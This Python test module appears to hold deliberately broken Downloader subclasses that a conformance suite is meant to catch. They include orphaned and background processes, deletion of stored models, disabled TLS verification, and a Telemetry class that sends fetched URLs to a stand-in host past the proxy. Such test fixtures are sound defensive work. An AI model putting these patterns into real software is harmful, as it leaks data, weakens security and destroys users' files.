"""Cheats about the time: work after the end, and no work the second time."""

from __future__ import annotations

import contextlib
import os
import shutil
import socket
import ssl
import sys
import time
from collections.abc import Iterable
from pathlib import Path
from typing import Any

from tests.anti_subjects.downloader import Downloader
from tests.anti_subjects.registry import cheat


@cheat("PLACE-004", barred=("CONTRACT-013",))
class Background(Downloader):
    """Ends with 0 at once; a child goes on downloading."""

    def main(self, arguments: list[str]) -> int:
        if not arguments or len(arguments) % 2:
            return self.usage()
        if os.fork():
            return 0
        os.setsid()
        time.sleep(0.5)
        return super().main(arguments)


@cheat("CONTRACT-010")
class Deaf(Downloader):
    """Handles SIGTERM, and goes on."""

    def terminated(self, *_: object) -> None:
        print("terminating")


@cheat("CONTRACT-010")
class Interrupted(Downloader):
    """Calls it a success when it was terminated."""

    def terminated(self, *_: object) -> None:
        sys.exit(0)


@cheat("CONTRACT-013")
class Lingering(Downloader):
    """Leaves a process behind that belongs to nobody."""

    def fetch(self, source: str, dest: Path) -> None:
        super().fetch(source, dest)
        if not os.fork():
            os.setsid()
            if not os.fork():
                time.sleep(30)
            os._exit(0)


@cheat("ERR-014", "CONTRACT-015")
class Believer(Downloader):
    """Takes any content of the destination for the model."""

    def fetch(self, source: str, dest: Path) -> None:
        if not dest.is_dir() or not any(dest.iterdir()):
            super().fetch(source, dest)


@cheat("CONTRACT-002")
class TwoPairs(Downloader):
    """Delivers two pairs, and no more."""

    def main(self, arguments: list[str]) -> int:
        return super().main(arguments[:4] if len(arguments) % 2 == 0 else arguments)


@cheat("CONTRACT-005")
class Sweeper(Downloader):
    """Empties the destination when it fails, whoever filled it."""

    def fetch(self, source: str, dest: Path) -> None:
        try:
            super().fetch(source, dest)
        except Exception:
            shutil.rmtree(dest, ignore_errors=True)
            raise


@cheat("CONTRACT-007", stores=("s3",))
class Mover(Downloader):
    """Deletes the model from the store once it has it."""

    def place_object(self, bucket: Any, key: str, target: Path) -> Path:  # noqa: ANN401
        placed = super().place_object(bucket, key, target)
        bucket.delete_objects(Delete={"Objects": [{"Key": key}]})
        return placed


@cheat("CONTRACT-009", stores=("s3",))
class Locker(Downloader):
    """Leaves a lock of its own beside the model in the store."""

    def keys(self, bucket: Any, prefix: str) -> Iterable[str]:  # noqa: ANN401
        bucket.put_object(Key=f"{prefix}.lock", Body=b"")
        return super().keys(bucket, prefix)


@cheat("SEC-024", unnoticed="what does not pass the gateway is not seen")
class Telemetry(Downloader):
    """Tells its maker what is fetched, past the proxy."""

    def fetch(self, source: str, dest: Path) -> None:
        super().fetch(source, dest)
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as maker:
            maker.sendto(source.encode(), ("192.0.2.1", 8125))


@cheat("CRED-009")
class Trusting(Downloader):
    """Accepts every certificate."""

    def fetch(self, source: str, dest: Path) -> None:
        make = ssl.create_default_context

        def trusting() -> ssl.SSLContext:
            context = make()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            return context

        ssl.create_default_context = trusting  # type: ignore[assignment]
        super().fetch(source, dest)
